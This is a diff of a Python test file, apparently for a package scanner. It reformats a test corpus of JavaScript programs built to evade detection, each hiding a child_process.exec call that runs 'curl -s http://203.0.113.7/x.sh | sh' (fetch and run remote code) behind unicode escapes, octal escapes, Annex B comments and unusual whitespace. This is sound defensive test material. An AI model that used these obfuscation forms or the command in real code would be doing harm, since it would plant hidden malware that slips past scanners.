@@ -25,7 +25,9 @@ from airlock.verdict import Verdict, decide
 from tests.fakes.tarballs import build_package
 
 NODE = shutil.which("node") or ("/usr/bin/node" if Path("/usr/bin/node").exists() else None)
-needs_node = pytest.mark.skipif(NODE is None, reason="node is not installed: `node --check` validates the corpus")
+needs_node = pytest.mark.skipif(
+    NODE is None, reason="node is not installed: `node --check` validates the corpus"
+)
 
 CMD = "curl -s http://203.0.113.7/x.sh | sh"
 REQ = "require('child_process')"
@@ -85,23 +87,45 @@ def corpus() -> list[Program]:
         for form, template in SCRIPT_BINDINGS:
             add(Program("keyword-identifier", f"{word}-{form}", ".js", template.replace("W", word)))
     # `undefined` can be bound in a function scope (and is, in old libraries' IIFEs).
-    add(Program("keyword-identifier", "undefined-param", ".js",
-                "(function (undefined) {\n  undefined = " + REQ + ";\n  undefined.exec('" + CMD + "');\n})();\n"))
-    add(Program("keyword-identifier", "undefined-var", ".cjs",
-                "function main() {\n  var undefined = " + REQ + ";\n  undefined.exec('" + CMD + "');\n}\nmain();\n"))
+    add(
+        Program(
+            "keyword-identifier",
+            "undefined-param",
+            ".js",
+            "(function (undefined) {\n  undefined = " + REQ + ";\n  undefined.exec('" + CMD + "');\n})();\n",
+        )
+    )
+    add(
+        Program(
+            "keyword-identifier",
+            "undefined-var",
+            ".cjs",
+            "function main() {\n  var undefined = "
+            + REQ
+            + ";\n  undefined.exec('"
+            + CMD
+            + "');\n}\nmain();\n",
+        )
+    )
     # Labels named by those words, around the use.
     for word in ("yield", "await", "let", "async", "static", "using"):
         add(Program("keyword-label", word, ".js", f"{word}: {{\n" + USE + f"  break {word};\n}}\n"))
     # ... and in ES modules (strict, so only the contextual words).
     for word in MODULE_WORDS:
         for form, template in MODULE_BINDINGS:
-            add(Program("module-contextual-word", f"{word}-{form}", ".mjs", template.replace("W", word),
-                        command_folds=form != "named"))
+            add(
+                Program(
+                    "module-contextual-word",
+                    f"{word}-{form}",
+                    ".mjs",
+                    template.replace("W", word),
+                    command_folds=form != "named",
+                )
+            )
     # Annex B: HTML-like comments, with text inside that would derail a parser reading it as code.
     add(Program("html-open-comment", "line-start", ".js", "<!-- ' ( { [ `\n" + USE))
     add(Program("html-open-comment", "after-code", ".js", "var a = 1 <!-- ' ) } `\n" + USE))
-    add(Program("html-open-comment", "hides-template-opener", ".js",
-                "var a = 1; <!-- `\n" + USE + "// `\n"))
+    add(Program("html-open-comment", "hides-template-opener", ".js", "var a = 1; <!-- `\n" + USE + "// `\n"))
     add(Program("html-open-comment", "same-line-code", ".cjs", "var a = 1, b = 2; a <!-- b ' \n" + USE))
     add(Program("html-close-comment", "line-start", ".js", "var a = 1;\n--> ' ) }\n" + USE))
     add(Program("html-close-comment", "after-block-comment", ".js", "var a = 1;\n/*\n*/ --> ' ) }\n" + USE))
@@ -110,46 +134,113 @@ def corpus() -> list[Program]:
     add(Program("html-close-comment", "after-ls", ".js", "var a = 1;\u2028--> ' ) }\n" + USE))
     # Annex B: legacy octal literals and escapes (in the specifier and in the command).
     add(Program("legacy-octal", "literal", ".js", "var mode = 0755, n = 09;\n" + USE))
-    add(Program("legacy-octal", "escape-specifier", ".js",
-                "var cp = require('\\143hild_process');\ncp.exec('" + CMD + "');\n"))
-    add(Program("legacy-octal", "escape-command", ".js",
-                "var cp = " + REQ + ";\ncp.exec('\\143url -s http://203.0.113.7/x.sh | sh');\n"))
+    add(
+        Program(
+            "legacy-octal",
+            "escape-specifier",
+            ".js",
+            "var cp = require('\\143hild_process');\ncp.exec('" + CMD + "');\n",
+        )
+    )
+    add(
+        Program(
+            "legacy-octal",
+            "escape-command",
+            ".js",
+            "var cp = " + REQ + ";\ncp.exec('\\143url -s http://203.0.113.7/x.sh | sh');\n",
+        )
+    )
     add(Program("legacy-octal", "non-octal-decimal-escape", ".js", "var s = '\\8\\9';\n" + USE))
     # Annex B: function declarations in blocks, in if-statements, labelled functions; for-in initialisers.
     add(Program("block-function", "if", ".js", "if (true) function run() {\n" + USE + "}\nrun();\n"))
-    add(Program("block-function", "if-else", ".js",
-                "if (false) ; else function run() {\n" + USE + "}\nrun();\n"))
+    add(
+        Program(
+            "block-function", "if-else", ".js", "if (false) ; else function run() {\n" + USE + "}\nrun();\n"
+        )
+    )
     add(Program("block-function", "block", ".js", "{\n  function run() {\n" + USE + "  }\n}\nrun();\n"))
     add(Program("block-function", "labelled", ".js", "here: function run() {\n" + USE + "}\nrun();\n"))
-    add(Program("block-function", "for-in-initialiser", ".js",
-                "for (var cp = " + REQ + " in {}) ;\ncp.exec('" + CMD + "');\n"))
+    add(
+        Program(
+            "block-function",
+            "for-in-initialiser",
+            ".js",
+            "for (var cp = " + REQ + " in {}) ;\ncp.exec('" + CMD + "');\n",
+        )
+    )
     # Hashbangs and byte-order marks.
     add(Program("hashbang", "script", ".js", "#!/usr/bin/env node\n" + USE))
     add(Program("hashbang", "module", ".mjs", "#!/usr/bin/env node\n" + USE_MODULE))
     add(Program("bom", "script", ".js", "\ufeff" + USE))
     add(Program("bom", "module", ".mjs", "\ufeff" + USE_MODULE))
     # Unicode escapes in identifiers.
-    add(Program("escaped-identifier", "require-u4", ".js",
-                "var cp = \\u0072equire('child_process');\ncp.exec('" + CMD + "');\n"))
-    add(Program("escaped-identifier", "require-u-brace", ".js",
-                "var cp = req\\u{75}ire('child_process');\ncp.exec('" + CMD + "');\n"))
-    add(Program("escaped-identifier", "binding", ".js",
-                "var \\u0063p = " + REQ + ";\ncp.exec('" + CMD + "');\n"))
-    add(Program("escaped-identifier", "member", ".js",
-                "var cp = " + REQ + ";\ncp.\\u0065x\\u{65}c('" + CMD + "');\n"))
-    add(Program("escaped-identifier", "keyword-word", ".js",
-                "var yi\\u0065ld = " + REQ + ";\nyield.exec('" + CMD + "');\n"))
-    add(Program("escaped-identifier", "module-named", ".mjs",
-                "import { ex\\u0065c } from 'child_process';\nexec('" + CMD + "');\n", command_folds=False))
-    add(Program("escaped-identifier", "module-member", ".mjs",
-                "import * as cp from 'child_process';\ncp.\\u{65}xec('" + CMD + "');\n"))
+    add(
+        Program(
+            "escaped-identifier",
+            "require-u4",
+            ".js",
+            "var cp = \\u0072equire('child_process');\ncp.exec('" + CMD + "');\n",
+        )
+    )
+    add(
+        Program(
+            "escaped-identifier",
+            "require-u-brace",
+            ".js",
+            "var cp = req\\u{75}ire('child_process');\ncp.exec('" + CMD + "');\n",
+        )
+    )
+    add(
+        Program(
+            "escaped-identifier", "binding", ".js", "var \\u0063p = " + REQ + ";\ncp.exec('" + CMD + "');\n"
+        )
+    )
+    add(
+        Program(
+            "escaped-identifier",
+            "member",
+            ".js",
+            "var cp = " + REQ + ";\ncp.\\u0065x\\u{65}c('" + CMD + "');\n",
+        )
+    )
+    add(
+        Program(
+            "escaped-identifier",
+            "keyword-word",
+            ".js",
+            "var yi\\u0065ld = " + REQ + ";\nyield.exec('" + CMD + "');\n",
+        )
+    )
+    add(
+        Program(
+            "escaped-identifier",
+            "module-named",
+            ".mjs",
+            "import { ex\\u0065c } from 'child_process';\nexec('" + CMD + "');\n",
+            command_folds=False,
+        )
+    )
+    add(
+        Program(
+            "escaped-identifier",
+            "module-member",
+            ".mjs",
+            "import * as cp from 'child_process';\ncp.\\u{65}xec('" + CMD + "');\n",
+        )
+    )
     # Unicode whitespace between tokens, and line terminators ending comments.
     for name, ws in WHITESPACE.items():
         spaced = f"var{ws}cp{ws}={ws}{REQ};{ws}\ncp.exec({ws}'{CMD}');\n"
         add(Program("unicode-whitespace", name, ".js", spaced))
     for name, ws in list(WHITESPACE.items())[:4]:
-        add(Program("unicode-whitespace", name, ".mjs", f"import{ws}*{ws}as{ws}cp{ws}from{ws}'child_process';\n"
-                    f"cp.exec('{CMD}');\n"))
+        add(
+            Program(
+                "unicode-whitespace",
+                name,
+                ".mjs",
+                f"import{ws}*{ws}as{ws}cp{ws}from{ws}'child_process';\ncp.exec('{CMD}');\n",
+            )
+        )
     for name, lt in LINE_TERMINATORS.items():
         add(Program("line-terminator", f"line-comment-{name}", ".js", f"// note{lt}" + USE))
         add(Program("line-terminator", f"html-comment-{name}", ".js", f"<!-- note{lt}" + USE))
@@ -184,7 +275,9 @@ def test_node_accepts_the_corpus(tmp_path: Path) -> None:
         program = CORPUS[index]
         path = tmp_path / f"p{index}{program.suffix}"
         path.write_bytes(program.source.encode())
-        done = subprocess.run([node, "--check", str(path)], capture_output=True, text=True, timeout=60)
+        done = subprocess.run(
+            [node, "--check", str(path)], check=False, capture_output=True, text=True, timeout=60
+        )
         return None if done.returncode == 0 else f"{program.id}: {done.stderr.strip().splitlines()[-3:]}"
 
     with ThreadPoolExecutor(max_workers=4) as pool:
